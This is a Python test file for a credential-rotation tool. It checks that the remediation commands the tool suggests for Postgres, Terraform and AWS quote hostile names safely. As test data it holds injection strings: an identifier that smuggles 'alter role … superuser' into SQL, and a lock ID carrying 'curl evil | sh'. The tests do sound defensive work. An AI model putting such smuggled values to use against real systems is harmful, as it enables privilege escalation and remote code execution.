"""A database user, or who can write to a state: they name things so that a command that people are told does more.

The administrator pastes it, as the master, and gives away the server (in SQL) or the machine (in a shell).
"""

from __future__ import annotations

import ast
import shlex
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest
from pg_fixture import PgServer, running_server

import rotator
from rotator.aws.uses import of_log_groups, of_secret
from rotator.database.postgres.connection import session
from rotator.database.postgres.preflight.replicate_database import _publications
from rotator.database.postgres.preflight.replicate_server import _drop_subscription
from rotator.domain.qualified import quoted
from rotator.terraform.diagnostics import from_text
from rotator.terraform.faults import Failure, to_error

EVIL = 'rotator_x"; alter role climber superuser; --'


@pytest.fixture(scope="module")
def pg() -> Iterator[PgServer]:
    with running_server() as server:
        yield server


@pytest.mark.postgres
def test_the_statement_that_drops_a_publication_drops_that_one_alone(pg: PgServer) -> None:
    """Whoever has CREATE on the database makes a publication of that name; the hint is typed by the master."""
    pg.run("postgres", "create role climber login password 'climber'", "create database shop owner climber")
    target = pg.target("shop")
    with psycopg.connect(
        host=pg.host, port=pg.port, user="climber", password="climber", dbname="shop", autocommit=True
    ) as climber:
        climber.execute(f"create publication {quoted(EVIL)}".encode())
    with session(target, doing="look") as connection:
        (finding,) = [each for each in _publications("shop", connection, None) if each.code == "own-leftover"]
    hint = finding.fix.partition("or: ")[2]
    with session(target, doing="type the hint") as connection:
        connection.execute(hint.encode())
        assert connection.execute("select rolsuper from pg_roles where rolname = 'climber'").fetchone() == (False,)
        assert connection.execute("select from pg_publication").rowcount == 0


def test_the_statements_that_drop_a_subscription_name_it_quoted() -> None:
    told = _drop_subscription(EVIL, 'shop"; --')
    assert told.count(quoted(EVIL)) == 3
    assert quoted('shop"; --') in told


def test_a_lock_of_the_state_that_is_no_number_stays_one_word_of_the_shell() -> None:
    evil = "x; curl evil | sh"
    text = f"Error acquiring the state lock\n\nLock Info:\n  ID:        {evil}\n  Who:       me\n"
    error = to_error(Failure("plan", Path("/srv/env of mine"), 1, from_text(f"Error: {text}"), text))
    command = error.fix[error.fix.index("`") + 1 : error.fix.rindex("`")]
    assert shlex.split(command) == ["terraform", "-chdir=/srv/env of mine", "force-unlock", evil]


def test_names_of_aws_are_one_word() -> None:
    for told in (of_secret("a; b").fix, of_log_groups(["a; b"])[0].fix):
        assert "a; b" in shlex.split(told.partition("aws ")[2])


def test_no_hint_of_the_code_quotes_a_name_by_hand() -> None:
    """A name between quotes of a literal is a name that nobody has escaped."""
    found = []
    for path in Path(rotator.__path__[0]).rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.JoinedStr) and _by_hand(node):
                found.append(f"{path.name}:{node.lineno}")
    assert found == []


VERBS = ("alter ", "drop ", "grant ", "revoke ", "create ", "select pg_", "aws ", "terraform ", "export ")


def _by_hand(node: ast.JoinedStr) -> bool:
    parts = [part.value if isinstance(part, ast.Constant) else None for part in node.values]
    text = "".join(part for part in parts if isinstance(part, str)).lower()
    if not any(verb in text for verb in VERBS):
        return False
    between = zip(parts, parts[1:], parts[2:], strict=False)
    return any(m is None and str(a).endswith(('"', "'")) and str(b).startswith(('"', "'")) for a, m, b in between)
